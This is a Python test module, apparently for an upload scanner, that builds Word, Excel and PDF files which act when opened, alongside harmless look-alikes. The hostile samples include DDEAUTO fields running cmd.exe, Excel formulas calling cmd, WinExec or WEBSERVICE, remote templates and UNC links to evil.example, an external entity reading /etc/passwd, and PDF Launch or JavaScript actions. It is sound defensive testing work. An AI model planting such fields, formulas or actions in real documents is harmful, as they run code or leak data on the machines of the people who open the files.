"""Office files and PDF that act when they are opened, and innocent ones that look a little like them."""

from __future__ import annotations

import io
from collections.abc import Iterator

from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NullObject, TextStringObject

from tests.uploads import samples
from tests.uploads.acting import (
    MICROSOFT,
    SHEET,
    STRICT,
    WORD,
    action,
    changed,
    chart_text,
    drawn,
    field,
    formula,
    in_sheet,
    packed_pdf,
    pdf_with,
    pdf_with_file,
    related,
    zip_in_pdf,
)


def acting() -> Iterator[tuple[str, bytes, str]]:
    """(name of the file, content, word of the sentence) of files that act."""
    docx, xlsx = samples.docx(), samples.xlsx()
    template, thing, linked = "附加在文件之外的模板", "嵌入或链接的对象、控件", "链接在文件之外的图片"
    place, books, fields, formulas = (
        "指向本机或共享文件夹的链接",
        "指向其他工作簿或数据源的链接",
        "的域",
        "会调用程序或网络的公式",
    )
    macro, other, add_in = "宏", "夹带的其他文件", "加载项或自定义功能区"
    settings = "word/_rels/settings.xml.rels"
    for target in ("https://evil.example/t.dotm", "file:///C:/t.dotm", "\\\\evil.example\\t.dotm"):
        yield f"模板{len(target)}.docx", related(docx, settings, "attachedTemplate", target), template
    yield "严格.docx", related(docx, settings, "attachedTemplate", "https://evil.example", base=STRICT), template
    yield "图片.docx", related(docx, WORD, "image", "https://evil.example/a.png"), linked
    yield "共享图片.docx", related(docx, WORD, "image", "\\\\evil.example\\a.png", outside=False), linked
    yield "框架.docx", related(docx, "word/_rels/webSettings.xml.rels", "frame", "https://evil.example"), linked
    yield "子文档.docx", related(docx, WORD, "subDocument", "file:///c:/x.docx"), linked
    yield "引入网页.docx", related(docx, WORD, "aFChunk", "/word/a.htm", outside=False), linked
    yield "视频.xlsx", related(xlsx, "xl/drawings/_rels/drawing1.xml.rels", "video", "https://evil.example/v"), linked
    yield "未知.docx", related(docx, WORD, "somethingNew", "https://evil.example/v"), linked
    yield "链接对象.docx", related(docx, WORD, "oleObject", "https://evil.example/a.xls!x"), thing
    yield "对象.docx", related(docx, WORD, "oleObject", "embeddings/oleObject1.bin", outside=False), thing
    yield "包.docx", related(docx, WORD, "package", "embeddings/a.docx", outside=False), thing
    yield "部件.docx", samples.with_part(docx, "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), thing
    yield "表中对象.xlsx", samples.with_part(xlsx, "xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), thing
    yield "对象元素.xlsx", in_sheet(b'<oleObjects><oleObject progId="Package"/></oleObjects>'), thing
    yield "控件.docx", related(docx, WORD, "control", "activeX/activeX1.xml", outside=False), thing
    yield "控件.xlsx", samples.with_part(xlsx, "xl/activeX/activeX1.xml", b"<x/>"), thing
    for target in (
        "file:///C:/Windows/System32/calc.exe",
        "\\\\evil.example\\share\\a.docx",
        "search-ms:query=x",
        "C:\\a.exe",
    ):
        yield f"超链接{len(target)}.docx", related(docx, WORD, "hyperlink", target), place
        yield f"超链接{len(target)}.xlsx", related(xlsx, SHEET, "hyperlink", target), place
    yield (
        "基址.docx",
        changed(
            docx,
            lambda n, o: (
                o.replace(b"</Properties>", b"<HyperlinkBase>\\\\evil.example\\x</HyperlinkBase></Properties>")
                if n == "docProps/app.xml"
                else o
            ),
        ),
        place,
    )
    yield "域链接.docx", field('HYPERLINK "file://evil.example/x"'), place
    for instruction in (
        'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', 'DDE excel "x" a', 'INCLUDEPICTURE "https://evil.example/a.png"',
        'INCLUDETEXT "https://evil.example/a.txt"', "LINK Excel.Sheet.8 c:\\a.xls", 'IMPORT "x"', 'DATABASE \\d "c:\\a.mdb"',
        "MACROBUTTON Auto_Open x", "QUOTE 68 68 69 65 85 84 79", "ddeauto cmd", "EMBED Package",
    ):  # fmt: skip
        yield f"域-{instruction.split()[0]}.docx", field(instruction), fields
    yield "分段的域.docx", field('DDEAUTO cmd "/k"', pieces=6), fields
    yield "简单域.docx", field('DDEAUTO cmd "/k"', simple=True), fields
    yield "页眉域.docx", field("DDEAUTO cmd x", part="word/header9.xml"), fields
    yield (
        "邮件合并.docx",
        changed(
            docx,
            lambda n, o: o.replace(b"</w:settings>", b"<w:mailMerge/></w:settings>") if n == "word/settings.xml" else o,
        ),
        books,
    )
    yield "链接.xlsx", samples.with_part(xlsx, "xl/externalLinks/externalLink1.xml", b"<x/>"), books
    yield "连接.xlsx", samples.with_part(xlsx, "xl/connections.xml", b"<connections/>"), books
    yield "查询.xlsx", samples.with_part(xlsx, "xl/queryTables/queryTable1.xml", b"<x/>"), books
    yield "连接关系.xlsx", related(xlsx, "xl/_rels/workbook.xml.rels", "connections", "x.xml", outside=False), books
    yield "别簿.xlsx", formula("'[1]总表'!A1"), books
    yield "别簿路径.xlsx", formula("'\\\\evil.example\\[b.xlsx]总表'!A1"), books
    for text in (
        "cmd|'/c calc'!A0", 'WEBSERVICE("https://evil.example/"&A1)', '_xlfn.WEBSERVICE("https://evil.example")',
        'CALL("kernel32","WinExec","JCJ","calc",0)', 'REGISTER("a","b")', 'RTD("a",,"b")', 'IMAGE("https://evil.example/a")',
        'EXEC("calc")', 'SUM(1,DDE("a","b","c"))',
    ):  # fmt: skip
        yield f"公式-{len(text)}.xlsx", formula(text), formulas
    for where in ("name", "check", "format"):
        yield f"公式在{where}.xlsx", formula('WEBSERVICE("https://evil.example")', where=where), formulas
    yield "链接公式.xlsx", formula('HYPERLINK("\\\\evil.example\\a","请点")'), place
    yield "宏表.xlsx", samples.with_part(xlsx, "xl/macrosheets/sheet1.xml", b"<x/>"), macro
    yield "对话表.xlsx", samples.with_part(xlsx, "xl/dialogsheets/sheet1.xml", b"<x/>"), macro
    yield "按钮.xlsx", drawn('macro="[0]!Run"'), macro
    yield "宏工程.docx", related(docx, WORD, "vbaProject", "a.bin", outside=False, base=MICROSOFT), macro
    yield "功能区.docx", samples.with_part(docx, "customUI/customUI.xml", b"<customUI/>"), add_in
    yield "加载项.xlsx", samples.with_part(xlsx, "xl/webextensions/taskpanes.xml", b"<x/>"), add_in
    for ending in ("exe", "js", "html", "lnk", "rtf", "hta", "xlsm", "docm"):
        yield f"夹带{ending}.docx", samples.with_part(docx, f"word/media/a.{ending}", b"x"), other
    yield "图表里的宏.docx", chart_text(samples.with_part(xlsx, "xl/vbaProject.bin", b"x")), macro
    yield "图表里不是表.docx", chart_text(b"MZ"), other
    yield (
        "实体.docx",
        samples.with_part(
            docx, "word/footer9.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
        ),
        "文件不完整或已损坏",
    )
    runs, holds, leads = "PDF 中带有脚本", "PDF 中夹带了其他文件", "PDF 中有指向本机"
    for kind in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/Rendition", "/Movie"):
        yield f"动作{kind[1:]}.pdf", pdf_with(A=action(kind)), runs
    yield "打开时.pdf", samples.pdf(script="app.alert(1)"), runs
    yield "表单动作.pdf", pdf_with(AA=DictionaryObject({NameObject("/K"): action("/JavaScript", JS="1")})), runs
    yield (
        "下一步.pdf",
        pdf_with(
            A=DictionaryObject(
                {NameObject("/S"): NameObject("/URI"), NameObject("/Next"): ArrayObject([action("/Launch")])}
            )
        ),
        runs,
    )
    yield "压缩的脚本.pdf", packed_pdf(), runs
    yield "动态表单.pdf", pdf_with(XFA=NullObject()), runs
    yield "附件.pdf", pdf_with_file(), holds
    yield "附件批注.pdf", pdf_with(Subtype=NameObject("/FileAttachment")), holds
    yield "别的文件.pdf", pdf_with(A=action("/GoToR", F="\\\\evil.example\\a.pdf")), holds
    yield "富媒体.pdf", pdf_with(Subtype=NameObject("/RichMedia")), holds
    for target in ("file:///c:/windows/system32/calc.exe", "\\\\evil.example\\a", "javascript:alert(1)", "ms-msdt:/id"):
        yield f"链接{len(target)}.pdf", pdf_with(A=action("/URI", URI=target)), leads
    yield "网页头.pdf", b"%PDF-1.4\n<script>alert(1)</script>\n" + samples.pdf()[9:], "PDF 里夹带了网页"
    yield "图形头.pdf", b"%PDF-1.4\n<svg onload=alert(1)>\n" + samples.pdf()[9:], "PDF 里夹带了网页"
    yield "又是压缩包.pdf", zip_in_pdf(), "PDF 里夹带了网页或压缩包"


def innocent() -> Iterator[tuple[str, bytes]]:
    """Files of everyday work that resemble the others."""
    docx, xlsx = samples.docx(), samples.xlsx()
    for target in (
        "https://www.example.gov.cn/a?b=1#c",
        "http://example.com",
        "mailto:a@example.com",
        "tel:0519-1",
        "附件一.docx",
        "#第二章",
    ):
        yield f"网址{len(target)}.docx", related(docx, WORD, "hyperlink", target)
    yield "网址.xlsx", related(xlsx, SHEET, "hyperlink", "https://www.example.gov.cn/")
    yield "严格.docx", related(docx, WORD, "hyperlink", "https://www.example.gov.cn/", base=STRICT)
    for instruction in (
        "PAGE",
        'TOC \\o "1-3" \\h \\z \\u',
        "REF LINK1 \\h",
        'HYPERLINK "https://example.com" \\o "LINK"',
        "SEQ 图 \\* ARABIC",
        "PAGEREF _Toc1 \\h",
        'HYPERLINK \\l "附件"',
        "NUMPAGES",
        'DATE \\@ "yyyy年M月d日"',
    ):
        yield f"域-{instruction.split()[0]}{len(instruction)}.docx", field(instruction)
    for text in (
        "SUM(A2:A9)",
        'IF(A1="CALL(x)","a|b!c",1)',
        "表1[2024]+Sheet2!A1",
        "VLOOKUP(A2,'二 表'!$A$1:$C$9,3,FALSE)",
        'HYPERLINK("https://example.com","网站")',
        "_xlfn.XLOOKUP(1,A2:A3,B2:B3)",
        'INDIRECT("A"&ROW())',
    ):
        yield f"公式-{len(text)}.xlsx", formula(text)
    yield "条件格式.xlsx", formula("$A1>100", where="format")
    yield "下拉.xlsx", formula("$A$1:$A$9", where="check")
    yield "形状.xlsx", drawn('macro=""')
    yield "图表.docx", chart_text(xlsx)
    yield "图表和批注.xlsx", _rich_workbook()
    yield "图文.docx", _rich_text()
    yield "打印设置.xlsx", samples.with_part(xlsx, "xl/printerSettings/printerSettings1.bin", b"\x00")
    yield "多页.pdf", samples.pdf(60)
    yield "网址.pdf", pdf_with(A=action("/URI", URI="https://www.example.gov.cn/"))
    yield "目录.pdf", pdf_with(A=action("/GoTo", D="chapter1"))
    yield "表单.pdf", pdf_with(Subtype=NameObject("/Widget"), FT=NameObject("/Tx"), V=TextStringObject("JavaScript"))
    yield "银行.pdf", samples.locked_pdf(opens=True)


def _rich_workbook() -> bytes:
    book = Workbook()
    sheet = book.active
    for row in (("年", "台"), (2024, 3), (2025, 5)):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    sheet["A1"].comment = Comment("核对过", "张三")
    sheet["B2"].hyperlink = "https://example.com/"
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def _rich_text() -> bytes:
    document = Document()
    document.add_heading("申报报告", 1)
    document.add_table(2, 2).cell(0, 0).text = "DDEAUTO 是一种域，cmd|'/c'!A0 是一种写法"
    document.add_picture(io.BytesIO(samples.picture()))
    document.part.relate_to("https://example.com", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.sections[0].header.paragraphs[0].text = "第一章"
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()
